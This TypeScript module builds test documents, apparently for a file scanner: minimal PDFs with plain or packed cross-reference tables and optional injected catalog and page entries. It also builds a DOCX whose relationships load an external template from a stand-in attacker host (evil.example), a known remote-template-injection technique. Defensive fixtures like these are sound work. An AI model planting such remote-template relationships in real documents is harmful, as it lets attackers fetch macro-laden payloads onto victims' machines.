/** Documents for tables: PDFs with a right table of offsets, and Office files with text and something bad. */
import { deflateSync } from 'node:zlib';
import { latin1, zipWith } from '../parts.ts';

export interface PdfParts {
  /** Without the braces, beside /Type and /Pages. */
  readonly catalog?: string;
  readonly page?: string;
  /** From object 6 on. */
  readonly more?: readonly string[];
}

const SHOWN = 'BT /F1 24 Tf 72 700 Td (Invoice 4711) Tj ET';

const objectsOf = ({ catalog = '', page = '', more = [] }: PdfParts): readonly string[] => [
  `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
  `<< /Length ${SHOWN.length} >>\nstream\n${SHOWN}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ...more,
];

/** Its objects in plain sight, a table of offsets at the end (ISO 32000-1 §7.5.4). */
export function pdfOf(parts: PdfParts): Buffer {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objectsOf(parts).forEach((object, index) => {
    offsets.push(text.length);
    text += `${index + 1} 0 obj ${object}\nendobj\n`;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = offsets.length + 1;
  return latin1(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}

type Pack = (plain: Buffer) => Buffer;

/** All but the page's content in a packed object stream, and the table in a stream too (§7.5.7, §7.5.8). */
export function packedPdfOf(
  parts: PdfParts,
  pack: Pack = (plain) => deflateSync(plain),
  dictionary = '/Type /ObjStm /Filter /FlateDecode',
): Buffer {
  const objects = objectsOf(parts);
  const stream = objects.length + 1;
  let list = '';
  let body = '';
  const inside = objects.flatMap((object, index) => (index === 3 ? [] : [{ object, number: index + 1 }]));
  for (const { object, number } of inside) {
    list += `${number} ${body.length} `;
    body += `${object} `;
  }
  const packed = pack(latin1(list + body));
  const head = latin1(`%PDF-1.7\n4 0 obj ${objects[3]}\nendobj\n`);
  const holder = Buffer.concat([
    latin1(
      `${stream} 0 obj << ${dictionary} /N ${inside.length} /First ${list.length} /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    latin1('\nendstream\nendobj\n'),
  ]);
  const at = head.length + holder.length;
  const rows = [[0, 0, 255]];
  for (let number = 1; number <= objects.length; number++) {
    const index = inside.findIndex((one) => one.number === number);
    rows.push(index < 0 ? [1, 9, 0] : [2, stream, index]);
  }
  rows.push([1, head.length, 0], [1, at, 0]);
  const table = deflateSync(
    Buffer.concat(rows.map(([type = 0, place = 0, last = 0]) => Buffer.from([type, place >> 8, place & 255, last]))),
  );
  return Buffer.concat([
    head,
    holder,
    latin1(
      `${stream + 1} 0 obj << /Type /XRef /Size ${stream + 2} /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length ${table.length} >>\nstream\n`,
    ),
    table,
    latin1(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
  ]);
}

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

/** A document that loads its template from elsewhere. */
export const docxOf = (body: string): Buffer =>
  zipWith({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document ${WORD}><w:body>${body}</w:body></w:document>`,
    'word/_rels/settings.xml.rels': `<Relationships ${RELATIONS}><Relationship Type="${TEMPLATE}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
  });
